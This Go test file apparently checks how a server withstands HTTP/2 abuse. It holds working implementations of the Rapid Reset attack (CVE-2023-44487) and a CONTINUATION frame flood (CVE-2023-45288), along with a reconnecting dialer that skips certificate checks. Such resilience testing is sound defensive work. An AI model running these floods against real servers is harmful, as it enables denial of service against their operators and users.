package abuse_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// dialHTTP2 opens a connection of bare frames.
func dialHTTP2(ctx context.Context, t target) (*tls.Conn, *http2.Framer, error) {
	dialer := &tls.Dialer{
		NetDialer: &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(attackersAddress)}},
		Config:    &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}, // the tests make their own certificate
	}
	connection, err := dialer.DialContext(ctx, "tcp", strings.TrimPrefix(t.URL, "https://"))
	if err != nil {
		return nil, nil, err
	}
	context.AfterFunc(ctx, func() { connection.Close() })
	sealed := connection.(*tls.Conn)
	if _, err := sealed.Write([]byte(http2.ClientPreface)); err != nil {
		return nil, nil, err
	}
	framer := http2.NewFramer(sealed, sealed)
	return sealed, framer, framer.WriteSettings()
}

// serversPatience is how long an attacker waits to be told.
const serversPatience = 5 * time.Second

// head is the header of a request for the page.
func head(fields ...string) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	fields = append([]string{":method", "GET", ":scheme", "https", ":authority", "x", ":path", "/"}, fields...)
	for i := 0; i < len(fields); i += 2 {
		_ = encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) // to a buffer
	}
	return block.Bytes()
}

// frames writes frames until the server ends the connection, and again on another
// one, so many in all.
func frames(ctx context.Context, t target, of *tally, write func(*http2.Framer, uint32) error) {
	for sent := 0; sent < t.N && ctx.Err() == nil; {
		connection, framer, err := dialHTTP2(ctx, t)
		if err != nil {
			of.add("refused")
			time.Sleep(10 * time.Millisecond) // an attacker that is not let in tries again
			sent++
			continue
		}
		said := make(chan string, 1)
		go func() { said <- goAway(connection) }()
		for stream := uint32(1); sent < t.N && write(framer, stream) == nil; stream += 2 {
			sent++
		}
		select {
		case why := <-said:
			of.add("ended: " + why)
		case <-time.After(serversPatience):
			of.add("goes on")
		}
		connection.Close()
	}
}

// goAway returns why the server ends the connection.
func goAway(connection *tls.Conn) string {
	framer := http2.NewFramer(nil, connection)
	for {
		frame, err := framer.ReadFrame()
		if err != nil {
			return "closed"
		}
		if away, ok := frame.(*http2.GoAwayFrame); ok {
			return away.ErrCode.String()
		}
	}
}

// rapidReset begins requests and takes each back at once (CVE-2023-44487).
func rapidReset(ctx context.Context, t target, of *tally) {
	block := head()
	frames(ctx, t, of, func(f *http2.Framer, stream uint32) error {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		return f.WriteRSTStream(stream, http2.ErrCodeCancel)
	})
}

// continuationFlood sends a header that does not end (CVE-2023-45288).
func continuationFlood(ctx context.Context, t target, of *tally) {
	more := head("x-long", strings.Repeat("x", 8<<10))
	frames(ctx, t, of, func(f *http2.Framer, stream uint32) error {
		if stream == 1 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head(), EndStream: true})
		}
		return f.WriteContinuation(1, false, more)
	})
}
